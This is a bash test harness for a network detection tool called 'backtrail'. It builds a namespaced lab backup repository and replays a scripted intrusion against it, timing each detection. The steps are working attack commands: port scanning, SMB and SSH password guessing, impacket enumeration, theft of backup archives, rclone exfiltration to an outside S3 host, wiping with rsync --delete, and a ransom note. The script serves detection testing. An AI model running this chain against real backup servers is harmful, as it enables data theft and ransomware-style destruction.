#!/bin/bash
# An intrusion against real servers, recorded and analysed live by `backtrail record`: what was done, by the plan in the steps below, and
# which findings came how many seconds after each step. Prints a Markdown table; the case stays in the folder that is given.
# Debian packages: samba smbclient openssh-server sshpass rsync rclone curl nfs-ganesha nfs-ganesha-vfs libnfs-utils rpcbind
# python3-impacket npm wireshark-common iproute2 ethtool; from npm: s3rver 3.7.1
#   scripts/rehearsal.sh CASE_FOLDER
CASE=$(realpath -m "${1:?Name a folder for the case}")
ROOT=$(cd "$(dirname "$0")/.." && pwd)
. "$ROOT/samples/recorded/namespaces.sh"

hosts repo backup intruder outside
# The outside is elsewhere: an address that no site has.
ip -n "$RUN-outside" addr add 203.0.113.50/32 dev eth0
ip -n "$RUN-intruder" route add 203.0.113.50/32 dev eth0
chmod 755 "$WORK"

# The estate: a repository that speaks SMB, NFS, rsync, SSH and S3, and a backup server that writes to it.
data=$WORK/data
mkdir -p "$data/jobs" "$WORK/state" "$WORK/recovery" "$WORK/objects" "$WORK/loot" "$WORK/away"
chmod -R 777 "$data"
id backup-op >/dev/null 2>&1 || useradd -m -N -s /bin/bash backup-op
echo 'backup-op:Repo-Pass-1' | chpasswd
smb_server repo REPO01 backup-op Repo-Pass-1 <<EOF
  passdb backend = smbpasswd:$WORK/state/smbpasswd
  force user = root
[backups]
  path = $data
  read only = no
EOF
cat >"$WORK/ganesha.conf" <<EOF
NFS_CORE_PARAM { mount_path_pseudo = true; Protocols = 3,4; NFS_Port = 2049; MNT_Port = 20048; Rquota_Port = 875; NLM_Port = 32803; }
NFSv4 { Graceless = true; RecoveryBackend = fs; RecoveryRoot = "$WORK/recovery"; }
EXPORT { Export_Id = 1; Path = $data; Pseudo = /backups; Access_Type = RW; Squash = no_root_squash; SecType = sys; Protocols = 3,4;
  Transports = TCP; FSAL { Name = VFS; } }
EOF
on repo rpcbind -f -w </dev/null >"$WORK/rpcbind.log" 2>&1 &
sleep 1
on repo ganesha.nfsd -F -f "$WORK/ganesha.conf" -L "$WORK/ganesha.log" -p "$WORK/ganesha.pid" -N NIV_EVENT </dev/null >"$WORK/ganesha.out" 2>&1 &
printf 'use chroot = no\nuid = root\ngid = root\n[backups]\n  path = %s\n  read only = no\n' "$data" >"$WORK/rsyncd.conf"
on repo rsync --daemon --no-detach --config="$WORK/rsyncd.conf" --port=873 </dev/null >"$WORK/rsyncd.log" 2>&1 &
mkdir -p /run/sshd
ssh-keygen -q -t ed25519 -N '' -f "$WORK/hostkey"
on repo /usr/sbin/sshd -f /dev/null -h "$WORK/hostkey" -o PidFile=none -o UsePAM=no -o PasswordAuthentication=yes -o MaxAuthTries=20 \
  -o PerSourcePenalties=no 2>/dev/null || on repo /usr/sbin/sshd -f /dev/null -h "$WORK/hostkey" -o PidFile=none -o UsePAM=no -o MaxAuthTries=20
npm install --silent --no-audit --no-fund --prefix "$WORK/npm" s3rver@3.7.1
s3() { on "$1" "$WORK/npm/node_modules/.bin/s3rver" -d "$2" -a 0.0.0.0 -p 9000 --configure-bucket "$3" --no-vhost-buckets </dev/null >/dev/null 2>&1 & }
s3 repo "$WORK/objects" backups
s3 outside "$WORK/away" drop
for port in 445 2049 873 22 9000; do
  for _ in $(seq 200); do on backup bash -c "exec 3<>/dev/tcp/10.99.0.1/$port" 2>/dev/null && break; sleep 0.2; done
done

cat >"$WORK/scope.yaml" <<EOF
site: { name: Rehearsal, networks: [10.99.0.0/24] }
assets:
  - { address: 10.99.0.1, name: REPO01, roles: [repository] }
  - { address: 10.99.0.2, name: BACKUP01, roles: [backup-server] }
EOF
stamp() { exec node -e 'require("readline").createInterface(process.stdin).on("line", (l) => console.log(Date.now() + " " + l))'; }
# In its place, so that it is told itself to end and reads what was recorded to its end.
(exec ip netns exec "$RUN-switch" node "$ROOT/bin/backtrail.js" record -i sw0 --case "$CASE" --scope "$WORK/scope.yaml" --json) \
  > >(stamp >"$WORK/told") 2>"$WORK/record.err" &
RECORDING=$!
until grep -q '"evaluatedAt":"' "$WORK/told" 2>/dev/null; do sleep 0.5; done

# Steps: who and what, which detections are expected, the command.
: >"$WORK/steps"
step() {
  local what=$1 expected=$2 from
  shift 2
  from=$(date +%s%3N)
  "$@" </dev/null >>"$WORK/out" 2>&1 || true
  printf '%s\t%s\t%s\t%s\n' "$from" "$(date +%s%3N)" "$expected" "$what" >>"$WORK/steps"
  sleep "${PAUSE:-13}"
}
# Until detections have run over all that was done.
settle() {
  local ended
  ended=$(date +%s%3N)
  for _ in $(seq 120); do
    node -e 'const s=JSON.parse(require("fs").readFileSync(process.argv[1]));process.exit(s.analysis.behindOctets===0&&Date.parse(s.analysis.evaluatedAt)-1000*s.analysis.evaluationSeconds>process.argv[2]?0:1)' \
      "$CASE/evidence/live/status.json" "$((ended - 1000))" 2>/dev/null && break
    sleep 1
  done
}
smb() { on "$1" smbclient -s /dev/null //10.99.0.1/backups -U "$2" -c "$3"; }
tool() { on intruder timeout 20 /usr/bin/python3 "/usr/share/doc/python3-impacket/examples/$1" "${@:2}"; }
guess() { for n in $(seq 34); do "$@" "wrong-$n"; done; }
smb_guess() { on intruder smbclient -s /dev/null //10.99.0.1/backups -U "backup-op%$1" -c ls; }
ssh_as() { on intruder sshpass -p "$1" ssh -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o PreferredAuthentications=password \
  -o NumberOfPasswordPrompts=1 backup-op@10.99.0.1 "${2:-true}"; }
ports() { on intruder bash -c 'for p in $(seq 20 30) 80 110 111 135 139 143 389 443 445 513 514 636 873 902 1433 1521 2049 3128 3260 3306 3389 5432 5900 5985 6379 8006 8080 8443 9000 9392 9401 9419 10000 10443; do timeout 0.3 bash -c "exec 3<>/dev/tcp/10.99.0.1/$p"; done'; }
store() { on intruder env AWS_ACCESS_KEY_ID=S3RVER AWS_SECRET_ACCESS_KEY=S3RVER rclone --config /dev/null --s3-provider Other --s3-env-auth \
  --s3-no-check-bucket --s3-no-head --s3-endpoint "$@"; }
unset AWS_CA_BUNDLE
for n in 1 2 3 4 5 6; do head -c 3000000 /dev/urandom >"$WORK/FS0$n.vbk"; done

nightly() { for n in 1 2 3 4 5 6; do smb backup 'backup-op%Repo-Pass-1' "cd jobs; put $WORK/FS0$n.vbk FS0$n.vbk"; done
  on backup env AWS_ACCESS_KEY_ID=S3RVER AWS_SECRET_ACCESS_KEY=S3RVER rclone --config /dev/null --s3-provider Other --s3-env-auth --s3-no-check-bucket \
    --s3-no-head --s3-endpoint http://10.99.0.1:9000 copy "$WORK" :s3:backups/veeam --include '*.vbk'; }
step "BACKUP01 writes six archives by SMB and S3 (no intruder)" "" nightly
step "Intruder tries 46 ports of the repository" "BT-DI-002" ports
step "34 wrong SMB passwords, then the right one" "BT-CA-016" eval 'guess smb_guess; smb_guess Repo-Pass-1'
step "Shares and accounts listed: smbclient -L, impacket samrdump and netview" "BT-DI-004 BT-DI-006" eval \
  'on intruder smbclient -s /dev/null -L 10.99.0.1 -U backup-op%Repo-Pass-1; tool samrdump.py backup-op:Repo-Pass-1@10.99.0.1; tool netview.py -target 10.99.0.1 LAB/backup-op:Repo-Pass-1'
step "34 wrong SSH passwords, then a session" "BT-CA-015 BT-LM-012" eval 'guess ssh_as; ssh_as Repo-Pass-1 "ls -la; df -h"'
step "Archives read by SMB" "BT-CO-001" smb intruder 'backup-op%Repo-Pass-1' "cd jobs; lcd $WORK/loot; prompt; mget FS01.vbk FS02.vbk FS03.vbk"
step "An archive read over NFS" "BT-CO-001" on intruder nfs-cp "nfs://10.99.0.1/backups/jobs/FS04.vbk?version=3" "$WORK/loot/FS04.vbk"
step "Loot sent outside with rclone to S3" "BT-EX-001" store http://203.0.113.50:9000 copy "$WORK/loot" :s3:drop/x
step "An empty folder put over the archives by rsync --delete" "BT-TI-024" eval 'mkdir -p $WORK/empty; cp $WORK/FS05.vbk $WORK/empty; on intruder rsync -r --delete $WORK/empty/ rsync://10.99.0.1/backups/jobs/'
nightly >>"$WORK/out" 2>&1 || true
step "Archives deleted by SMB" "BT-TI-001" smb intruder 'backup-op%Repo-Pass-1' 'cd jobs; del *.vbk'
step "A ransom note left by SMB" "BT-TI-038" eval 'echo pay >$WORK/how-to-get-back.txt; smb intruder backup-op%Repo-Pass-1 "put $WORK/how-to-get-back.txt how-to-get-back.txt"'
step "Objects deleted with rclone" "BT-TI-012" store http://10.99.0.1:9000 delete :s3:backups/veeam

settle
kill -TERM "$RECORDING"
wait "$RECORDING" || true
node "$ROOT/scripts/rehearsal-table.js" "$WORK/steps" "$WORK/told"
[ -z "${KEEP:-}" ] || cp "$WORK"/{steps,told,out,record.err} "$KEEP"/
userdel -r backup-op 2>/dev/null || true
finish
